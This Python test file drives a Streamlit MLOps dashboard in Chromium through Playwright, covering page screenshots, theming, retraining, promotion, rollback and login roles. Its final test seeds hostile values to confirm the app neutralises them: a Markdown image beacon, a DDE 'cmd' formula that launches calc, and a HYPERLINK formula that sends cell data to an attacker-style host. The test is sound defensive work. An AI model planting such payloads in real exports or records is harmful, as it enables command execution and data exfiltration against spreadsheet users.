"""The dashboard in a real browser: Playwright drives Debian's Chromium against `streamlit run dashboard.py`.

One server on a free loopback port, on a private copy of a small demo database. The test
opens every page (and saves a screenshot of each into docs/screenshots/), retrains,
promotes the candidate and rolls back, checking production and the audit log in the
database after each step (through ``mlops_core.registry``, which retries while the
server or the retrain job holds the file for a moment).

Skipped when /usr/bin/chromium or Playwright is missing, unless the ``CI`` environment
variable is set: in CI a missing browser fails the test.
"""
from __future__ import annotations

import os
import re
import time
from pathlib import Path

import pytest

from _dashboard_support import (CHROMIUM, DEMO_END, CHROMIUM_ARGS, ROOT, StreamlitServer, assert_no_traceback,
                                copy_db, log_in, open_as, require_browser, settle, shared_demo)
from mlops_core.lifecycle import jobs, registry
from mlops_core import ControlRoom, Identity

pytestmark = [pytest.mark.browser, pytest.mark.slow]

#: Screenshots go to test-results/screenshots/ (git-ignored); `make screenshots` points this at docs/screenshots/,
#: the README's pictures, so a plain test run leaves the work tree unchanged.
SHOTS = Path(os.environ.get("MLOPS_SCREENSHOTS_DIR") or ROOT / "test-results" / "screenshots")
MODEL = "credit_default"
PAGES = [("", "MLOps control room", "overview"), ("performance", "Performance", "performance"),
         ("drift", "Drift", "drift"), ("data_quality", "Data quality", "data_quality"),
         ("versions", "Versions", "versions"), ("retrain", "Retrain", "retrain"), ("runs", "Runs & audit", "runs"),
         ("automation", "Automation", "automation")]
#: Days of labelled traffic the browser's retrain uses: the recent, post-shift rows. Whether the candidate passes
#: the demo's gate depends on the real numbers; the test takes both paths (Promote, or a forced promotion).
RETRAIN_DAYS = 10


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    require_browser()
    folder = tmp_path_factory.mktemp("browser")
    db = copy_db(shared_demo(), folder / "db")
    with StreamlitServer(db, folder / "streamlit.log") as srv:
        yield srv


@pytest.fixture(scope="module")
def browser(server):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield b
        b.close()


@pytest.fixture(scope="module")
def page(browser):
    context = browser.new_context(viewport={"width": 1440, "height": 1700}, color_scheme="light")
    pg = context.new_page()
    pg.set_default_timeout(30_000)
    yield pg
    context.close()


def open_page(pg, server, path: str, title: str, user: str = "pat"):
    open_as(pg, f"{server.url}/{path}", user)
    pg.get_by_role("heading", name=title, exact=True).wait_for()
    settle(pg)
    assert_no_traceback(pg, path or "/")


def test_every_page_opens_and_is_saved_as_screenshot(server, page):
    SHOTS.mkdir(parents=True, exist_ok=True)
    for path, title, name in PAGES:
        open_page(page, server, path, title)
        # the shared sidebar is on every page, also when the page is the first one opened
        try:
            page.locator('[data-testid="stSidebar"]').get_by_text("Window", exact=True).wait_for(timeout=15_000)
        except Exception:
            page.screenshot(path=str(SHOTS / f"failed_{name}.png"), full_page=True)
            pytest.fail(f"no shared sidebar on /{path}; server log: {server.log()[-2000:]}")
        if name in ("overview", "performance", "drift", "versions"):
            page.locator('[data-testid="stPlotlyChart"], [data-testid="stMetric"]').first.wait_for()
        page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)
    open_page(page, server, "", "MLOps control room")
    prod = ControlRoom(server.db).model(MODEL).production_version()
    assert page.get_by_text(f"Production: v{prod}").count() >= 1


def test_dark_theme_pages_render(server, browser):
    """With the browser asking for a dark scheme the app and its charts switch to Streamlit's dark theme."""
    context = browser.new_context(viewport={"width": 1440, "height": 1700}, color_scheme="dark")
    pg = context.new_page()
    pg.set_default_timeout(30_000)
    try:
        for path, title, name in (("drift", "Drift", "drift"), ("performance", "Performance", "performance")):
            open_page(pg, server, path, title)
            pg.locator('[data-testid="stPlotlyChart"]').first.wait_for()
            background = pg.evaluate("getComputedStyle(document.querySelector('[data-testid=stApp]')).backgroundColor")
            rgb = [int(x) for x in re.findall(r"\d+", background)[:3]]
            assert sum(rgb) < 150, background  # a dark background
            pg.screenshot(path=str(SHOTS / f"{name}_dark.png"), full_page=True)
    finally:
        context.close()


def _new_retrain_run(server, known: set, timeout: float = 30) -> str:
    """Id of the retrain run the click created (read from the database)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        runs = ControlRoom(server.db).runs(MODEL)
        new = runs[(runs["kind"] == "retrain") & ~runs["id"].isin(known)]
        if len(new):
            return str(new["id"].iloc[0])
        time.sleep(0.5)
    raise AssertionError("pressing Retrain started no run")


def test_retrain_promote_and_roll_back(server, page):
    before = ControlRoom(server.db).model(MODEL).production_version()
    open_page(page, server, "retrain", "Retrain")
    days = page.get_by_label("Days of labelled data", exact=True)
    days.fill(str(RETRAIN_DAYS))
    days.press("Enter")
    settle(page)
    started = set(ControlRoom(server.db).runs(MODEL)["id"])
    page.get_by_role("button", name="Retrain", exact=True).click()
    run_id = _new_retrain_run(server, started)
    # live progress while the job runs (unless it is already over), then the result with the gate decision
    progress = page.get_by_text(re.compile(rf"Retrain {run_id} (queued|running)"))
    result = page.get_by_text(re.compile(rf"Latest retrain · run {run_id} · \w+"))
    page.get_by_text(re.compile(rf"Retrain {run_id} (queued|running)|Latest retrain · run {run_id}")).first.wait_for()
    if progress.count():
        page.screenshot(path=str(SHOTS / "retrain_running.png"), full_page=True)
        # the job outlives the page: after a reload the page finds it in the database and goes on following it
        page.reload()
        log_in(page)  # a page load is a new session
        page.get_by_text(re.compile(rf"Retrain {run_id} (queued|running)|Latest retrain · run {run_id}")
                         ).first.wait_for()
    try:
        result.wait_for(timeout=240_000)
    except Exception:
        page.screenshot(path=str(SHOTS / "failed_retrain.png"), full_page=True)
        run = ControlRoom(server.db).run(run_id)
        pytest.fail(f"no retrain result on the page; run {run.status} {run.progress:.0%} {run.message!r} "
                    f"error={run.error!r}; server log: {server.log()[-1500:]}")
    settle(page)
    run = ControlRoom(server.db).run(run_id)
    assert run.status == "succeeded", f"the retrain failed: {run.error}"
    assert_no_traceback(page, "retrain result")
    page.get_by_text("Gate decision").wait_for()
    page.get_by_text(re.compile(r"v\d+ (passed|failed) the gate")).first.wait_for()
    page.screenshot(path=str(SHOTS / "retrain_result.png"), full_page=True)

    runs = ControlRoom(server.db).runs(MODEL)
    retrain = runs[runs["id"] == run_id].iloc[0]
    assert (retrain["status"], retrain["actor"]) == ("succeeded", "pat")
    audit = ControlRoom(server.db).audit(MODEL)
    assert "retrain_requested" in set(audit.loc[audit["actor"] == "pat", "action"])
    candidate = max(v.version for v in ControlRoom(server.db).model(MODEL).versions())
    status = {v.version: v.status for v in ControlRoom(server.db).model(MODEL).versions()}[candidate]
    assert ControlRoom(server.db).model(MODEL).production_version() == before  # a person promotes, not the retrain

    if status == "candidate":
        # passed the gate: the Retrain page offers Promote
        page.get_by_role("button", name="Promote", exact=True).click()
    else:
        # failed the gate: no Promote here; the operator overrides it on the Versions page, which the audit records
        assert status == "rejected"
        assert page.get_by_role("button", name="Promote", exact=True).count() == 0
        open_page(page, server, "versions", "Versions")
        page.get_by_role("button", name="Promote", exact=True).click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_text(f"from v{before} to v{candidate}").wait_for()
    if status == "rejected":
        dialog.get_by_text("Promote it anyway").click()
    dialog.get_by_label("Reason (recorded in the audit log)").fill("browser test: fresh data")
    dialog.get_by_role("button", name="Confirm", exact=True).click()
    page.get_by_text(f"v{candidate} is now in production").wait_for()
    settle(page)
    assert ControlRoom(server.db).model(MODEL).production_version() == candidate
    event = ControlRoom(server.db).audit(MODEL).iloc[0]
    assert (event["action"], event["actor"], event["from_version"], event["to_version"], event["reason"]) == (
        "promote", "pat", before, candidate, "browser test: fresh data")

    open_page(page, server, "versions", "Versions")
    assert page.get_by_text(f"production is v{candidate}").count() == 1
    page.get_by_role("button", name="Roll back", exact=True).click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_text(f"from v{candidate} to v{before}").wait_for()
    dialog.get_by_role("button", name="Confirm", exact=True).click()
    page.get_by_text(f"rolled back to v{before}").wait_for()
    settle(page)
    assert ControlRoom(server.db).model(MODEL).production_version() == before
    event = ControlRoom(server.db).audit(MODEL).iloc[0]
    assert (event["action"], event["actor"], event["from_version"], event["to_version"]) == (
        "rollback", "pat", candidate, before)
    assert page.get_by_text(f"production is v{before}").count() == 1
    page.screenshot(path=str(SHOTS / "versions_after_rollback.png"), full_page=True)


def _context(browser):
    context = browser.new_context(viewport={"width": 1440, "height": 1400}, color_scheme="light")
    pg = context.new_page()
    pg.set_default_timeout(30_000)
    return context, pg


def test_login_roles_and_log_out(server, browser):
    """Nothing but the login before signing in; a wrong password is refused; a viewer has no action controls and
    an operator has them; logging out returns to the login."""
    context, pg = _context(browser)
    try:
        pg.goto(f"{server.url}/versions")
        pg.get_by_role("heading", name="Log in").wait_for()
        settle(pg)
        assert pg.locator('[data-testid="stSidebar"]').get_by_role("combobox", name="Model").count() == 0
        assert pg.get_by_role("heading", name="Versions", exact=True).count() == 0
        log_form = pg.locator('[data-testid="stForm"]')
        log_form.get_by_label("User name", exact=True).fill("pat")
        log_form.get_by_label("Password", exact=True).fill("not the password")
        log_form.get_by_role("button", name="Log in").click()
        pg.get_by_text("Unknown user name or wrong password").wait_for()
        assert pg.get_by_role("heading", name="Versions", exact=True).count() == 0

        log_in(pg, "vic")
        pg.get_by_role("heading", name="Versions", exact=True).wait_for()
        pg.get_by_text("which reads only").first.wait_for()
        assert pg.get_by_role("button", name="Promote", exact=True).count() == 0
        assert pg.get_by_role("button", name="Roll back", exact=True).count() == 0
        pg.locator('[data-testid="stSidebarNav"]').locator('a[href$="/retrain"]').click()
        pg.get_by_role("heading", name="Retrain", exact=True).wait_for()
        settle(pg)
        assert pg.get_by_role("button", name="Retrain", exact=True).count() == 0
        pg.screenshot(path=str(SHOTS / "viewer_retrain.png"), full_page=True)

        pg.locator('[data-testid="stSidebar"]').get_by_role("button", name=re.compile("vic · viewer")).click()
        pg.get_by_role("button", name="Log out").click()
        pg.get_by_role("heading", name="Log in").wait_for()
        assert pg.get_by_role("heading", name="Retrain", exact=True).count() == 0

        log_in(pg, "pat")
        pg.get_by_role("heading", name="Retrain", exact=True).wait_for()
        pg.get_by_role("button", name="Retrain", exact=True).wait_for()
        assert_no_traceback(pg, "retrain as operator")
    finally:
        context.close()


def test_hostile_stored_text_is_inert(tmp_path, browser):
    """An actor name and an error message holding a Markdown image are shown as typed (no image, no request); a
    reason and an actor that are spreadsheet formulas are neutralized in the CSV download."""
    from mlops_core.store import Store
    from mlops_core.store import runs as runstore

    db = copy_db(shared_demo(), tmp_path / "db")
    hostile = "![t](http://127.0.0.1:9/pixel.png)"
    with Store(db).transaction() as con:
        run_id = runstore.insert_run(con, model=MODEL, kind="retrain", actor=hostile, status="failed",
                                     message=f"failed: {hostile} :red[alarm]")
        runstore.update_run(con, run_id, error=f"boom {hostile}", progress=1.0)
        runstore.insert_audit(con, actor="=cmd|' /C calc'!A0", action="promote", model=MODEL,
                              reason='=HYPERLINK("http://evil.example/?"&A1,"Click")', at=DEMO_END)
    with StreamlitServer(db, tmp_path / "streamlit.log") as srv:
        context, pg = _context(browser)
        requests = []
        pg.on("request", lambda r: requests.append(r.url))
        try:
            open_as(pg, f"{srv.url}/retrain", "vic")
            pg.get_by_text("Latest retrain").first.wait_for()
            settle(pg)
            main = pg.locator('[data-testid="stMain"]')
            assert main.locator("img").count() == 0
            assert hostile in main.inner_text()
            assert not [u for u in requests if "pixel.png" in u]

            # the audit download is safe to open in a spreadsheet
            pg.locator('[data-testid="stSidebarNav"]').locator('a[href$="/runs"]').click()
            pg.get_by_role("heading", name="Runs & audit", exact=True).wait_for()
            pg.get_by_role("tab", name="Audit log").click()
            with pg.expect_download() as download:
                pg.get_by_role("button", name="Download audit log as CSV").click()
            text = Path(download.value.path()).read_text()
            assert "'=HYPERLINK(" in text and "'=cmd|" in text
            assert ',=' not in text and '"=' not in text
        finally:
            context.close()
